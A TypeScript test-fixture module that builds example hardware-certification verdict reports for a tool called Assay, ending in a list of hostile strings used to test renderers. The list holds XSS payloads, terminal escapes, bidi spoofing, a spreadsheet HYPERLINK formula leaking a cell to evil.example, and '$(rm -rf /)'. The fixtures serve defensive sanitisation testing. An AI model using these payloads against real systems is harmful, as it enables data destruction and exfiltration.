import { listedUnder } from '../../reports/verdict/algebra.ts';
import type { Cell, Counts } from '../../reports/verdict/cell.ts';
import { keepReadings } from '../../reports/verdict/keep-readings.ts';
import type { Measurement } from '../../reports/verdict/measurement.ts';
import type { Said } from '../../reports/verdict/said.ts';
import type { Conclusion, Defect, Verdict } from '../../reports/verdict/verdict.ts';
import type { Subject } from '../../workloads/kit/subject.ts';
import { nameOf, nodeOf, subjectOfGroup } from '../../workloads/kit/subject.ts';

/** Builders of realistic verdict documents for tests of everything that reads one. */

/** A sentence in the words of an example. */
export const quoted = (text: string): Said => ({ say: 'quoted', text });

/** What a name in an example stands for: `n`, `n/device`, `n1+n2`. */
export function exampleSubject(name: string): Subject {
  const members = name.split('+');
  if (members.length > 1) return subjectOfGroup(name, members);
  const [node = '', ...device] = name.split('/');
  return device.length === 0 ? { kind: 'node', node } : { kind: 'device', node, device: device.join('/') };
}

/** Subject and sentences may be given as text. */
type CellInput = Pick<Cell, 'requirement' | 'title' | 'dimension' | 'verdict'> &
  Partial<Omit<Cell, 'subject' | 'reason' | 'action'>> & {
    readonly subject: Subject | string;
    readonly reason: Said | string;
    readonly action?: Said | string | undefined;
  };

/** A cell with the usual defaults. */
export function exampleCell({ subject: given, reason, action, ...input }: CellInput): Cell {
  const subject = typeof given === 'string' ? exampleSubject(given) : given;
  const said = (it: Said | string): Said => (typeof it === 'string' ? quoted(it) : it);
  const advice = input.verdict === 'pass' ? action : (action ?? 'Look at the evidence, then measure again.');
  return {
    id: `${nameOf(subject)}:${input.requirement}`,
    subject,
    level: 'required',
    owner: 'hardware',
    gate: false,
    sampling: 'screening',
    reason: said(reason),
    ...(advice === undefined ? {} : { action: said(advice) }),
    ...input,
  };
}

type MeasurementInput = Pick<Measurement, 'metric' | 'title' | 'unit' | 'tool'> &
  Partial<Omit<Measurement, 'subject'>> & { readonly subject: Subject | string };

/** A measurement of `values`, with the statistics taken from them. */
export function exampleMeasurement(
  values: readonly number[],
  { subject: given, ...input }: MeasurementInput,
): Measurement {
  const subject = typeof given === 'string' ? exampleSubject(given) : given;
  const sorted = [...values].sort((left, right) => left - right);
  const middle = (sorted.length - 1) / 2;
  return {
    subject,
    better: 'higher',
    correctness: false,
    dimensions: {},
    origin: 'native',
    n: values.length,
    median: (sorted[Math.floor(middle)]! + sorted[Math.ceil(middle)]!) / 2,
    min: sorted[0]!,
    max: sorted.at(-1)!,
    ...keepReadings(
      values.map((value, place) => ({
        step: `${input.metric}-${nameOf(subject)}-${place + 1}`,
        value,
        at: [{ command: 'run', output: 'stdout', line: 12 }],
      })),
    ),
    ...input,
  };
}

type VerdictInput = Partial<Verdict> & Pick<Verdict, 'cells'>;

/** A verdict that agrees with itself: counts, conclusion and exit code follow from the cells. */
export function exampleVerdict(input: VerdictInput): Verdict {
  const required = input.cells.filter((cell) => cell.level === 'required');
  const conclusion = input.conclusion ?? conclude(required);
  return {
    schema: 'assay/verdict',
    schemaVersion: 2,
    assay: '0.1.0',
    run: { id: 'r-20261123-081000', startedAt: '2026-11-23T08:10:00Z', purpose: 'certify', assay: '0.1.0' },
    profile: {
      id: 'ai-training-singlenode',
      version: '1.0',
      title: 'AI training on one node',
      digest: '9ac1f0'.padEnd(64, '7'),
    },
    suite: { id: 'quick', version: '1.0' },
    kind: 'screening report',
    conclusion,
    exitCode: { pass: 0, fail: 1, undecided: 2, unreached: 3 }[conclusion],
    headline: headlineOf(conclusion),
    counts: {
      required: count(required),
      advisory: count(input.cells.filter((cell) => cell.level === 'advisory')),
    },
    assets: [],
    nodes: [...new Set(input.cells.map(listedUnder))].map((id) => ({ id, reached: true, facts: [] })),
    defects: [],
    measurements: [],
    attempts: [],
    notShown: [],
    evidence: { inputs: [], journals: [], samples: [] },
    ...input,
  };
}

function count(cells: readonly Cell[]): Counts {
  const counts: Counts = { fail: 0, invalid: 0, missing: 0, inconclusive: 0, pass: 0, 'not-applicable': 0 };
  for (const cell of cells) counts[cell.verdict] += 1;
  return counts;
}

function conclude(required: readonly Cell[]): Conclusion {
  const words = new Set(required.map((cell) => cell.verdict));
  if (words.has('fail')) return 'fail';
  return words.has('pass') && !words.has('invalid') && !words.has('missing') && !words.has('inconclusive')
    ? 'pass'
    : 'undecided';
}

const headlineOf = (conclusion: Conclusion): Said =>
  quoted(
    {
      pass: 'Every required cell is met.',
      fail: 'Not accepted: a required cell is not met.',
      undecided: 'Not accepted: required cells are open.',
      unreached: 'No node answered.',
    }[conclusion],
  );

const gib = 2 ** 30;

/** A virtual machine without any accelerator: of no use for AI, and honest about what it can do. */
export function vmVerdict(): Verdict {
  const noAccelerator = {
    missing: 'no-subject',
    action: 'Not applicable until an accelerator is installed.',
  } as const;
  const cells = [
    exampleCell({
      subject: 'vm-1',
      requirement: 'accelerator-present',
      title: 'An accelerator is on the PCI bus',
      dimension: 'D1',
      verdict: 'fail',
      gate: true,
      sampling: 'exact',
      reason: 'expected at least 1 accelerator on the PCI bus, found 0 among 14 devices',
      limit: {
        id: 'accelerator-present',
        comparator: 'atLeast',
        expected: 1,
        source: 'profile ai-training-singlenode 1.0',
      },
      observed: { kind: 'fact', path: 'accelerators.count', value: 0 },
      action: 'Use the machine for something else, or install an accelerator and survey it again.',
    }),
    exampleCell({
      subject: 'vm-1',
      requirement: 'gemm-bf16',
      title: 'Matrix multiplication, BF16',
      dimension: 'D1',
      verdict: 'missing',
      reason: 'there is no accelerator to measure',
      ...noAccelerator,
    }),
    exampleCell({
      subject: 'vm-1',
      requirement: 'hbm',
      title: 'Device memory bandwidth',
      dimension: 'D3',
      verdict: 'missing',
      reason: 'there is no accelerator to measure',
      ...noAccelerator,
    }),
    exampleCell({
      subject: 'vm-1',
      requirement: 'host-ram',
      title: 'Host memory',
      dimension: 'D10',
      verdict: 'pass',
      sampling: 'exact',
      owner: 'configuration',
      reason: 'expected at least 8.590 GB, found 16.79 GB',
      limit: {
        id: 'host-ram',
        comparator: 'atLeast',
        expected: 8 * gib,
        source: 'profile ai-training-singlenode 1.0',
      },
      observed: { kind: 'fact', path: 'memory.totalBytes', value: 16_787_243_008, unit: 'B' },
    }),
    exampleCell({
      subject: 'vm-1',
      requirement: 'clock',
      title: 'Clock offset',
      dimension: 'D10',
      verdict: 'inconclusive',
      owner: 'environment',
      sampling: 'exact',
      reason: 'expected at most 50 ms, found 41 ms ± 20 ms',
      action: 'Let the clock settle for ten minutes and survey again.',
      limit: {
        id: 'clock',
        comparator: 'atMost',
        expected: { value: 0.05, unit: 's' },
        source: 'node-exporter and Ceph alert rules',
      },
      observed: {
        kind: 'samples',
        unit: 's',
        n: 3,
        median: 0.041,
        min: 0.0382,
        max: 0.0611,
        steps: ['clock-1', 'clock-2', 'clock-3'],
      },
    }),
    exampleCell({
      subject: 'vm-1/vda',
      requirement: 'nvme-read',
      title: 'Random read, 4 KiB',
      dimension: 'D6',
      verdict: 'invalid',
      level: 'advisory',
      reason: 'the scratch directory is on overlay, which is no drive: the number says nothing about vda',
      action: 'Name a scratch directory on the drive in the inventory.',
      observed: {
        kind: 'samples',
        unit: 'IOPS',
        n: 3,
        median: 447_829,
        min: 431_007,
        max: 452_616,
        steps: ['nvme-1', 'nvme-2', 'nvme-3'],
      },
    }),
    exampleCell({
      subject: 'vm-1',
      requirement: 'sha256',
      title: 'SHA-256, one core',
      dimension: 'D1',
      verdict: 'pass',
      level: 'advisory',
      reason: 'expected at least 200 MB/s, found 1.384 GB/s',
      limit: {
        id: 'sha256-floor',
        comparator: 'atLeast',
        expected: { value: 2e8, unit: 'B/s' },
        source: 'reference: openssl speed without SHA extensions',
      },
      observed: {
        kind: 'samples',
        unit: 'B/s',
        n: 3,
        median: 1.384e9,
        min: 1.3702e9,
        max: 1.3911e9,
        steps: ['sha256-1', 'sha256-2', 'sha256-3'],
      },
    }),
  ];
  const defects: readonly Defect[] = [
    {
      id: 'd1',
      nodes: ['vm-1'],
      subject: exampleSubject('vm-1'),
      owner: 'hardware',
      verdict: 'fail',
      cells: ['vm-1:accelerator-present', 'vm-1:gemm-bf16', 'vm-1:hbm'],
      symptom: quoted(
        'No accelerator on the PCI bus (14 devices, none of class 03xx with compute, none of class 12xx).',
      ),
      action: quoted('Use the machine for something else, or install an accelerator and survey it again.'),
      evidence: ['nodes/vm-1/steps/probe/stdout'],
    },
    {
      id: 'd2',
      nodes: ['vm-1'],
      subject: exampleSubject('vm-1'),
      owner: 'environment',
      verdict: 'inconclusive',
      cells: ['vm-1:clock'],
      symptom: quoted('The clock offset cannot be told from its limit.'),
      action: quoted('Let the clock settle for ten minutes and survey again.'),
      evidence: ['nodes/vm-1/steps/clock-1/stdout'],
    },
  ];
  return exampleVerdict({
    cells,
    defects: [...defects],
    run: { id: 'r-20261123-081000', startedAt: '2026-11-23T08:10:00Z', purpose: 'survey', assay: '0.1.0' },
    headline: quoted('vm-1 has no accelerator and cannot be used for AI training.'),
    assets: [
      {
        node: 'vm-1',
        class: { id: 'cpu-only', how: 'inferred' },
        verdict: 'D',
        meaning: quoted('of no use for AI: a presence or identity requirement fails for every AI profile'),
        reason: quoted('no accelerator on the PCI bus'),
        decidedBy: 'accelerator-present',
        ladder: [
          {
            profile: 'ai-training-multinode',
            conclusion: 'fail',
            reason: quoted('no accelerator on the PCI bus'),
          },
          {
            profile: 'ai-training-singlenode',
            conclusion: 'fail',
            reason: quoted('no accelerator on the PCI bus'),
          },
          { profile: 'ai-inference', conclusion: 'fail', reason: quoted('no accelerator on the PCI bus') },
          {
            profile: 'storage',
            conclusion: 'undecided',
            reason: quoted('no drive could be measured: the scratch directory is on overlay'),
          },
        ],
      },
    ],
    nodes: [
      {
        id: 'vm-1',
        reached: true,
        facts: [
          { group: 'Machine', name: 'product', value: 'KVM Virtual Machine' },
          {
            group: 'Machine',
            name: 'serial',
            unknown: '/sys/class/dmi/id/product_serial is readable by root only',
          },
          { group: 'Processor', name: 'model', value: 'AMD EPYC 9354 32-Core Processor' },
          { group: 'Processor', name: 'logical CPUs', value: '8' },
          { group: 'Memory', name: 'total', value: '16.79 GB' },
          { group: 'Memory', name: 'ECC', unknown: 'no EDAC driver is loaded' },
          { group: 'System', name: 'kernel', value: '6.12.48+deb13-cloud-amd64' },
          { group: 'System', name: 'virtualisation', value: 'kvm' },
        ],
      },
    ],
    measurements: [
      exampleMeasurement([1.384e9, 1.3702e9, 1.3911e9], {
        metric: 'sha256.throughput',
        title: 'SHA-256',
        unit: 'B/s',
        subject: 'vm-1',
        tool: 'openssl',
        toolVersion: '3.5.1',
        dimensions: { cores: 1, blockBytes: 16_384 },
      }),
      exampleMeasurement([9.83e9, 1.101e10, 1.094e10], {
        metric: 'sha256.throughput',
        title: 'SHA-256',
        unit: 'B/s',
        subject: 'vm-1',
        tool: 'openssl',
        toolVersion: '3.5.1',
        dimensions: { cores: 8, blockBytes: 16_384 },
      }),
      exampleMeasurement([4.4e10], {
        metric: 'matmul.throughput',
        title: 'Matrix multiplication, FP32',
        unit: 'FLOP/s',
        subject: 'vm-1',
        tool: 'embedded',
        origin: 'embedded',
        dimensions: { size: 1024, cores: 8 },
      }),
      exampleMeasurement([0], {
        metric: 'matmul.wrong',
        title: 'Wrong elements',
        unit: 'count',
        subject: 'vm-1',
        tool: 'embedded',
        origin: 'embedded',
        better: 'lower',
        correctness: true,
        dimensions: { size: 1024, cores: 8 },
      }),
      exampleMeasurement([447_829, 431_007, 452_616], {
        metric: 'nvme.readIops',
        title: 'Random read',
        unit: 'IOPS',
        subject: 'vm-1/vda',
        tool: 'fio',
        toolVersion: '3.39',
        dimensions: { blockBytes: 4096, queueDepth: 16 },
        invalid: quoted('the scratch directory is on overlay'),
      }),
      exampleMeasurement([0.0000812, 0.0000794, 0.0000935], {
        metric: 'nvme.readLatency',
        title: 'Read latency',
        unit: 's',
        better: 'lower',
        subject: 'vm-1/vda',
        tool: 'fio',
        toolVersion: '3.39',
        dimensions: { blockBytes: 4096, quantile: 0.99 },
        invalid: quoted('the scratch directory is on overlay'),
      }),
    ],
    attempts: [
      ...['sha256-1', 'sha256-2', 'sha256-3', 'nvme-1', 'nvme-2', 'nvme-3'].map((step, place) => ({
        step,
        node: 'vm-1',
        workload: step.split('-')[0]!,
        tool: step.startsWith('sha') ? 'openssl' : 'fio',
        repetition: (place % 3) + 1,
        execution: 'completed',
        durationMs: 12_340 + place * 700,
      })),
      {
        step: 'matmul-1',
        node: 'vm-1',
        workload: 'matmul',
        tool: 'embedded',
        repetition: 1,
        execution: 'completed',
        durationMs: 4100,
      },
      {
        step: 'matmul-2',
        node: 'vm-1',
        workload: 'matmul',
        tool: 'embedded',
        repetition: 2,
        execution: 'timeout',
        reason: quoted('no end after 60 s'),
        durationMs: 60_000,
      },
    ],
    notShown: [
      { what: quoted('Matrix multiplication, BF16'), reason: quoted('there is no accelerator to measure') },
      { what: quoted('Device memory bandwidth'), reason: quoted('there is no accelerator to measure') },
      {
        what: quoted('Power quality and cooling (D7, D8)'),
        reason: quoted('Assay does not measure the facility yet'),
      },
      { what: quoted('Behaviour over hours'), reason: quoted('a quick suite has no soak') },
    ],
    evidence: {
      inputs: ['inventory.json', 'limits.json', 'profile.json', 'suite.json'].map((name, place) => ({
        path: `inputs/${name}`,
        sha256: `${place}e1bc09`.padEnd(64, 'd'),
      })),
      journals: [{ node: 'vm-1', records: 61, head: '4e1bc09a'.padEnd(64, '3') }],
      samples: [{ node: 'vm-1', path: 'samples/vm-1.json', sha256: '5d'.repeat(32) }],
    },
  });
}

/** Two HGX H100 nodes, one of which has lost a GPU. */
export function clusterVerdict(): Verdict {
  const gpus = (node: string, number: number) =>
    Array.from({ length: number }, (_, place) => `${node}/GPU-${node.at(-1)}${place}f21c8e`);
  const gemm = (subject: string, place: number) => {
    const median = 7.48e14 + (place - 4) * 3.1e12;
    return exampleCell({
      subject,
      requirement: 'gemm-bf16',
      title: 'Matrix multiplication, BF16, 16384³',
      dimension: 'D1',
      verdict: 'pass',
      reason: `expected at least 690 TFLOPS, found ${(median / 1e12).toFixed(1)} TFLOPS`,
      limit: {
        id: 'matmul.bf16.h100-sxm',
        comparator: 'atLeast',
        expected: { value: 6.9e14, unit: 'FLOP/s' },
        source: 'contract customer-2026-03, §4.2',
      },
      observed: {
        kind: 'samples',
        unit: 'FLOP/s',
        n: 3,
        median,
        min: median * 0.994,
        max: median * 1.006,
        steps: [1, 2, 3].map((run) => `gemm-${subject}-${run}`),
      },
    });
  };
  const node = (name: string, present: number) => [
    exampleCell({
      subject: name,
      requirement: 'inventory',
      title: 'Accelerators as claimed',
      dimension: 'D1',
      gate: true,
      sampling: 'exact',
      verdict: present === 8 ? 'pass' : 'fail',
      reason: `expected 8 accelerators on the PCI bus as the inventory claims, found ${present}`,
      action: 'Reseat the GPU in slot 5, then replace it; survey the node again.',
      limit: { id: 'inventory', comparator: 'equal', expected: 8, source: 'inventory rack.yaml' },
      observed: { kind: 'fact', path: 'accelerators.count', value: present },
    }),
    ...gpus(name, present).map(gemm),
    ...gpus(name, present).map((subject) =>
      exampleCell({
        subject,
        requirement: 'row-remap',
        title: 'No failed row remapping',
        dimension: 'D3',
        verdict: 'pass',
        sampling: 'exact',
        reason: 'expected no, found no',
        limit: { id: 'row-remap', comparator: 'equal', expected: false, source: 'NVIDIA RMA policy' },
        observed: { kind: 'fact', path: 'rowRemapFailure', value: false },
      }),
    ),
    exampleCell(
      present === 8
        ? {
            subject: name,
            requirement: 'allreduce-node',
            title: 'All-reduce, 8 GPUs, 16 GiB',
            dimension: 'D4',
            verdict: 'pass',
            reason: 'expected at least 460 GB/s, found 478.2 GB/s',
            limit: {
              id: 'allreduce.h100-sxm',
              comparator: 'atLeast',
              expected: { value: 4.6e11, unit: 'B/s' },
              source: 'Azure node health checks, h100 conf line 52',
            },
            observed: {
              kind: 'samples',
              unit: 'B/s',
              n: 3,
              median: 4.782e11,
              min: 4.711e11,
              max: 4.813e11,
              steps: ['ar-1', 'ar-2', 'ar-3'],
            },
          }
        : {
            subject: name,
            requirement: 'allreduce-node',
            title: 'All-reduce, 8 GPUs, 16 GiB',
            dimension: 'D4',
            verdict: 'missing',
            missing: 'not-run',
            reason: 'not run: the gate `inventory` failed',
          },
    ),
    exampleCell({
      subject: name,
      requirement: 'rdma',
      title: 'RDMA write per rail',
      dimension: 'D5',
      level: 'advisory',
      owner: 'configuration',
      verdict: 'missing',
      missing: 'not-covered',
      reason: 'Assay cannot measure fabrics yet',
    }),
  ];
  const cells = [...node('gpu-a', 8), ...node('gpu-b', 7)];
  return exampleVerdict({
    cells,
    profile: {
      id: 'ai-training-singlenode',
      version: '1.4',
      title: 'AI training on one node',
      digest: '9ac1f0'.padEnd(64, '7'),
    },
    headline: quoted('Not accepted: 1 of 2 nodes conforms; gpu-b has 7 of 8 accelerators.'),
    defects: [
      {
        id: 'd1',
        nodes: ['gpu-b'],
        subject: exampleSubject('gpu-b'),
        owner: 'hardware',
        verdict: 'fail',
        cells: ['gpu-b:inventory', 'gpu-b:allreduce-node'],
        symptom: quoted('7 of 8 accelerators on the PCI bus; the slot at 0000:ba:00.0 is empty.'),
        action: quoted('Reseat the GPU in slot 5, then replace it; survey the node again.'),
        evidence: ['nodes/gpu-b/steps/probe/stdout', 'nodes/gpu-b/steps/probe/artifacts/lspci.txt'],
      },
    ],
    assets: [
      {
        node: 'gpu-a',
        class: { id: 'hgx-h100-8', how: 'claimed' },
        verdict: 'A',
        meaning: quoted('fit for the intended purpose'),
        reason: quoted('every required cell of ai-training-singlenode is met'),
        ladder: [
          {
            profile: 'ai-training-multinode',
            conclusion: 'undecided',
            reason: quoted('the fabric was not measured'),
          },
          {
            profile: 'ai-training-singlenode',
            conclusion: 'pass',
            reason: quoted('every required cell is met'),
          },
          { profile: 'ai-inference', conclusion: 'pass', reason: quoted('every required cell is met') },
        ],
      },
      {
        node: 'gpu-b',
        class: { id: 'hgx-h100-8', how: 'claimed' },
        verdict: 'B',
        meaning: quoted('fit for a lesser purpose: ai-inference'),
        reason: quoted('7 of 8 accelerators on the PCI bus'),
        decidedBy: 'inventory',
        ladder: [
          {
            profile: 'ai-training-multinode',
            conclusion: 'fail',
            reason: quoted('7 of 8 accelerators on the PCI bus'),
          },
          {
            profile: 'ai-training-singlenode',
            conclusion: 'fail',
            reason: quoted('7 of 8 accelerators on the PCI bus'),
          },
          { profile: 'ai-inference', conclusion: 'pass', reason: quoted('every required cell is met') },
        ],
      },
    ],
    measurements: [...gpus('gpu-a', 8), ...gpus('gpu-b', 7)].map((subject, place) =>
      exampleMeasurement([7.41e14 + (place % 7) * 2e12, 7.48e14 + (place % 5) * 2e12, 7.45e14], {
        metric: 'matmul.throughput',
        title: 'Matrix multiplication',
        unit: 'FLOP/s',
        subject,
        tool: 'cublaslt',
        toolVersion: '12.8',
        dimensions: { dtype: 'bf16', size: 16_384 },
      }),
    ),
    notShown: [
      {
        what: quoted('All-reduce on gpu-b'),
        about: ['gpu-b'],
        reason: quoted('the gate inventory failed; the result of gpu-a does not replace it'),
      },
      { what: quoted('RDMA per rail'), reason: quoted('Assay cannot measure fabrics yet') },
      { what: quoted('All-reduce among nodes'), reason: quoted('Assay cannot measure fabrics yet') },
    ],
    attempts: ['gpu-a', 'gpu-b'].map((name) => ({
      step: `allreduce-${name}`,
      node: name,
      workload: 'allreduce',
      tool: 'nccl-tests',
      repetition: 1,
      execution: name === 'gpu-a' ? 'completed' : 'refused',
      ...(name === 'gpu-a' ? { durationMs: 41_000 } : { reason: quoted('gate inventory') }),
    })),
    evidence: {
      inputs: [{ path: 'inputs/inventory.json', sha256: 'ab'.repeat(32) }],
      samples: [],
      journals: [
        { node: 'gpu-a', records: 212, head: 'cd'.repeat(32) },
        { node: 'gpu-b', records: 97, head: 'ef'.repeat(32) },
      ],
    },
  });
}

/** One node that conforms: what the best report looks like. */
export function conformingVerdict(): Verdict {
  const whole = clusterVerdict();
  const isHere = (each: { readonly node: string }) => each.node === 'gpu-a';
  const cells = whole.cells.filter((cell) => listedUnder(cell) === 'gpu-a');
  return exampleVerdict({
    cells,
    profile: whole.profile,
    headline: quoted('gpu-a conforms to every required cell.'),
    assets: whole.assets.filter(isHere),
    measurements: whole.measurements.filter(({ subject }) => nodeOf(subject) === 'gpu-a'),
    notShown: whole.notShown.slice(1),
    attempts: whole.attempts.filter(isHere),
    evidence: {
      ...whole.evidence,
      journals: whole.evidence.journals.filter(isHere),
      samples: whole.evidence.samples.filter(isHere),
    },
  });
}

/** Nothing answered: no cell was decided, and no renderer may look clean. */
export function unreachedVerdict(): Verdict {
  return exampleVerdict({
    cells: [],
    conclusion: 'unreached',
    nodes: [
      {
        id: 'gpu-x',
        reached: false,
        why: { say: 'quoted', text: 'connection refused by gpu-x:22' },
        facts: [],
      },
    ],
    assets: [
      {
        node: 'gpu-x',
        class: { id: 'hgx-h100-8', how: 'claimed' },
        verdict: 'U',
        meaning: quoted('undecided'),
        reason: quoted('the node was not reached'),
        ladder: [],
      },
    ],
    notShown: [
      {
        what: quoted('Everything on gpu-x'),
        about: ['gpu-x'],
        reason: quoted('connection refused by gpu-x:22'),
      },
    ],
  });
}

/** Strings that a hostile or broken node could send: markup, controls, bidi overrides, formulas, endless words. */
export const hostileStrings: readonly string[] = [
  '<script>alert(1)</script><img src=x onerror=alert(2)>',
  '"><style>*{display:none}</style>',
  '\'><a href="javascript:alert(3)">x</a>',
  ']]><!-- -- --><![CDATA[',
  '\u001b[2J\u001b]0;owned\u0007\u009b31m',
  'invoice\u202efdp.exe \u2066isolated\u2069 zero\u200bwidth\ufeff',
  '=HYPERLINK("http://evil.example/?"&A1,"ok")',
  '+1+1',
  '-2-3',
  '@SUM(A1)',
  '\t=1',
  '|cmd',
  'line one\r\nline two\u2028three\u0000four',
  'x'.repeat(5000),
  'Größe 大きさ 크기 🙂 e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301',
  '\ud800 lone surrogate \uffff',
  '| pipe | [link](http://evil.example) `code` **bold** https://evil.example www.evil.example @someone',
  '$(rm -rf /); `id` \\',
  '',
];

/** The virtual machine's verdict with hostile text in every place that a node or a file can fill. */
export function hostileVerdict(): Verdict {
  const base = vmVerdict();
  let turn = 0;
  const evil = () => hostileStrings[turn++ % hostileStrings.length]!;
  return {
    ...base,
    headline: quoted(evil()),
    assay: evil(),
    run: { ...base.run, id: evil() },
    profile: { id: evil(), version: evil(), title: evil(), digest: evil() },
    suite: { id: evil(), version: evil() },
    assets: base.assets.map((asset) => ({
      ...asset,
      node: evil(),
      meaning: quoted(evil()),
      reason: quoted(evil()),
      decidedBy: evil(),
      class: { ...asset.class, id: evil() },
      ladder: hostileStrings.map((profile) => ({
        profile,
        conclusion: 'fail' as const,
        reason: quoted(evil()),
      })),
    })),
    nodes: hostileStrings.map((id) => ({
      id,
      reached: false,
      why: { say: 'quoted', text: evil() },
      facts: [
        { group: evil(), name: evil(), value: evil() },
        { group: evil(), name: evil(), unknown: evil() },
      ],
    })),
    cells: base.cells.map((cell) => ({
      ...cell,
      title: evil(),
      reason: quoted(evil()),
      subject: { kind: 'group' as const, name: evil() },
      blamedOn: [evil()],
      requirement: evil(),
      dimension: evil(),
      action: quoted(evil()),
      ...(cell.limit === undefined
        ? {}
        : {
            limit: {
              ...cell.limit,
              id: evil(),
              source: evil(),
              comparator: 'oneOf' as const,
              expected: [...hostileStrings],
            },
          }),
      observed: { kind: 'fact' as const, path: evil(), value: evil() },
    })),
    defects: hostileStrings.map((id) => ({
      ...base.defects[0]!,
      id,
      nodes: [evil()],
      subject: { kind: 'device' as const, node: evil(), device: evil() },
      symptom: quoted(evil()),
      action: quoted(evil()),
      evidence: [...hostileStrings],
    })),
    measurements: base.measurements.map((measurement) => ({
      ...measurement,
      metric: evil(),
      title: evil(),
      subject: { kind: 'node' as const, node: evil() },
      tool: evil(),
      toolVersion: evil(),
      invalid: quoted(evil()),
      dimensions: Object.fromEntries(hostileStrings.map((name) => [name, evil()])),
    })),
    attempts: hostileStrings.map((step) => ({
      step,
      node: evil(),
      workload: evil(),
      tool: evil(),
      repetition: 1,
      execution: evil(),
      reason: quoted(evil()),
    })),
    notShown: hostileStrings.map((what) => ({ what: quoted(what), reason: quoted(evil()) })),
    evidence: {
      inputs: hostileStrings.map((path) => ({ path, sha256: evil() })),
      samples: hostileStrings.map((node) => ({ node, path: evil(), sha256: evil() })),
      journals: hostileStrings.map((node) => ({ node, records: 1, head: evil() })),
    },
  };
}
